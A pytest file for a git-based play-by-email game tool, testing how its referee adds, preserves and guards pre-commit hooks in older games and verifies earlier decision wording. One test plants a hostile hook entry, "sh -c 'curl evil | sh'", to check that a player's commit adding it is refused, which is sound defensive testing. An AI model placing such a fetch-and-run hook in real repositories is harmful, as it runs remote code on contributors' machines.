"""Games started by an earlier pbem. One whose first commit has no `.pre-commit-config.yaml`: the referee's next
commit adds the very file `pbem git init` writes now, once, and never writes over one that is there. One whose
positions word a decision as that pbem worded it: `pbem git verify` replays it, words aside."""
from __future__ import annotations

from pathlib import Path

import pytest

from gitkit import Club, git, plan
from pbem.git import layout, start
from pbem.store import yamlio
from support import Pbem

SEED = "older-seed"


def started_by_an_earlier_pbem(root, monkeypatch, **options) -> Club:
    """A club whose `pbem git init` wrote what an earlier pbem wrote: everything but the pre-commit hooks."""
    fixed = start._fixed_files
    root.mkdir()
    with monkeypatch.context() as patched:
        patched.setattr(start, "_fixed_files",
                        lambda *args: {path: data for path, data in fixed(*args).items() if path != layout.PRE_COMMIT})
        game = Club(root, "coal-baron", 3, seed=SEED, **options)
    assert git(game.dir, "ls-tree", "--name-only", "HEAD", layout.PRE_COMMIT) == ""
    return game


def hooks_of(where, rev: str = "HEAD") -> bytes:
    return git(where, "show", f"{rev}:{layout.PRE_COMMIT}").encode()


@pytest.mark.parametrize("ci", [False, True], ids=["local-referee", "ci-referee"])
def test_the_referees_next_commit_adds_the_pre_commit_hooks_pbem_git_init_writes_to_an_older_game(
        club, tmp_path, monkeypatch, ci):
    new = club("coal-baron", 3, seed=SEED)  # started by this pbem
    game = started_by_an_earlier_pbem(tmp_path / "older", monkeypatch, ci=ci)
    (number, player, moves), = plan("coal-baron", game.names, SEED, game.dir.name, limit=1)[0]
    assert game.move(player, "; ".join(moves)).code == 0
    run = game.referee()
    assert [c["verdict"] for c in run["commits"]] == ["accepted"] and run["added"] == [layout.PRE_COMMIT]
    assert hooks_of(game.dir) == hooks_of(new.dir) == layout.PRE_COMMIT_CONFIG.encode()
    message = git(game.dir, "log", "-1", "--format=%B")
    assert message.startswith(f"pbem: move {number} by {player}") and f"Added {layout.PRE_COMMIT}" in message
    game.pull("carol")
    assert (game.clones["carol"] / layout.PRE_COMMIT).read_bytes() == layout.PRE_COMMIT_CONFIG.encode()
    # once there, it is not written again
    again = game.referee()
    assert again["commit"] is None and again["added"] == []
    verified = game.pbem("git", "verify", game.dir)
    assert verified.code == 0, verified.err


def test_a_referee_run_with_nothing_to_judge_adds_the_missing_hooks_in_a_commit_of_its_own(tmp_path, monkeypatch):
    game = started_by_an_earlier_pbem(tmp_path / "older", monkeypatch)
    before = git(game.dir, "rev-parse", "HEAD").strip()
    run = game.referee()
    assert run["commits"] == [] and run["added"] == [layout.PRE_COMMIT] and run["commit"] and run["pushed"]
    assert git(game.dir, "show", "--name-only", "--format=", "HEAD").split() == [layout.PRE_COMMIT]
    assert git(game.dir, "log", "-1", "--format=%s").strip() == "pbem: the players' pre-commit hooks"
    assert git(game.dir, "rev-parse", "HEAD^").strip() == before
    assert hooks_of(game.remote, "main") == layout.PRE_COMMIT_CONFIG.encode()
    assert game.referee()["commit"] is None
    text = game.pbem("git", "referee", game.dir, *game.referee_args())
    assert text.code == 0 and "nothing new to referee" in text.out


def test_a_players_commit_adding_pre_commit_hooks_to_an_older_game_is_refused_and_the_referee_writes_its_own(
        tmp_path, monkeypatch):
    game = started_by_an_earlier_pbem(tmp_path / "older", monkeypatch)
    hostile = layout.PRE_COMMIT_CONFIG.replace("entry: pbem git check-move", "entry: sh -c 'curl evil | sh'")
    commit = game.commit_file("alice", layout.PRE_COMMIT, hostile, "hooks for everyone")
    run = game.referee()
    assert [(c["commit"], c["verdict"]) for c in run["commits"]] == [(commit, "refused")]
    assert layout.PRE_COMMIT in run["commits"][0]["reason"]
    assert hooks_of(game.dir) == layout.PRE_COMMIT_CONFIG.encode()
    game.pull("bob")
    assert (game.clones["bob"] / layout.PRE_COMMIT).read_text() == layout.PRE_COMMIT_CONFIG


def test_the_referee_never_writes_over_pre_commit_hooks_its_game_already_has(tmp_path, monkeypatch):
    earlier = layout.PRE_COMMIT_CONFIG.replace("name: pbem move files", "name: move files (an earlier wording)")
    (tmp_path / "earlier").mkdir()
    with monkeypatch.context() as patched:
        patched.setattr(layout, "PRE_COMMIT_CONFIG", earlier)
        game = Club(tmp_path / "earlier", "coal-baron", 3, seed=SEED)
    assert hooks_of(game.dir) == earlier.encode() != layout.PRE_COMMIT_CONFIG.encode()
    (number, player, moves), = plan("coal-baron", game.names, SEED, game.dir.name, limit=1)[0]
    assert game.move(player, "; ".join(moves)).code == 0
    edited = game.commit_file(player, layout.PRE_COMMIT, layout.PRE_COMMIT_CONFIG, "the newest hooks")
    run = game.referee()
    assert [(c["verdict"], c["commit"] == edited) for c in run["commits"]] == [("accepted", False),
                                                                              ("refused", True)]
    assert run["added"] == [] and hooks_of(game.dir) == earlier.encode()


# A 2-player Chartered game (alice, and bob played by the referee's greedy bot; every move of alice's played by
# the timeout policy's greedy bot, a tick an hour, then to the end), refereed by the pbem before Chartered's trade
# decision stopped naming `trades=wide` (0cef7e0's parent): its public files, as a git bundle (no key of it
# matters; the referee's own files were left out).
EARLIER_WORDS = Path(__file__).parent / "older" / "chartered-earlier-words.bundle"
EARLIER_TEXT = "after building: trade shares (2 in all, or with trades=wide up to 2 bought and 2 sold)"


def earlier_words_clone(tmp_path) -> Path:
    clone = tmp_path / "ch"
    git(tmp_path, "clone", "--quiet", str(EARLIER_WORDS), str(clone))
    return clone


def test_a_git_game_whose_positions_an_earlier_pbem_worded_otherwise_verifies_words_aside(tmp_path):
    clone = earlier_words_clone(tmp_path)
    worded = [commit for commit in git(clone, "rev-list", "HEAD").split()
              if EARLIER_TEXT in git(clone, "show", f"{commit}:public.yaml")]
    assert len(worded) == 1  # a refereed position waiting on alice's trade, in the earlier words
    decision = yamlio.loads(git(clone, "show", f"{worded[0]}:public.yaml"))["decision"]
    assert (decision["player"], decision["decision"]) == ("alice", "trade_shares")
    result = Pbem()("git", "verify", clone)
    assert result.code == 0, result.err
    assert "all 16 refereed positions equal the replay" in result.out
    assert "words: 1 position words its decision as another pbem worded it" in result.out


def test_a_position_of_a_game_an_earlier_pbem_worded_is_taken_in_its_words_and_nothing_else(tmp_path):
    """What git verify compares a refereed public.yaml with: the replay's, in the stored words. Who must act, the
    decision and the position are the record: a stored position that differs in them is not the replay's."""
    from pbem.git.verify import SAME, WORDED, _same_public
    from pbem.store import registry
    clone = earlier_words_clone(tmp_path)
    (commit,) = [commit for commit in git(clone, "rev-list", "HEAD").split()
                 if EARLIER_TEXT in git(clone, "show", f"{commit}:public.yaml")]
    stored = yamlio.loads(git(clone, "show", f"{commit}:public.yaml"))
    stored.pop("clock")  # the referee's record, not the replay's
    today = registry.get("chartered").meta["decisions"]["trade_shares"]
    replayed = {**stored, "decision": {**stored["decision"], "description": today}}
    assert today != EARLIER_TEXT and _same_public(None, None, {}, stored, replayed) == WORDED
    assert _same_public(None, None, {}, replayed, replayed) == SAME
    forged = [{**stored, "to_act": "bob", "decision": {**stored["decision"], "player": "bob"}},
              {**stored, "decision": {**stored["decision"], "decision": "take_turn"}},
              {**stored, "move_number": stored["move_number"] + 1},
              {**stored, "recent": stored["recent"][1:]},
              {**stored, "view": {**stored["view"], "side": "forged"}}]
    for position in forged:
        assert _same_public(None, None, {}, position, replayed) is None
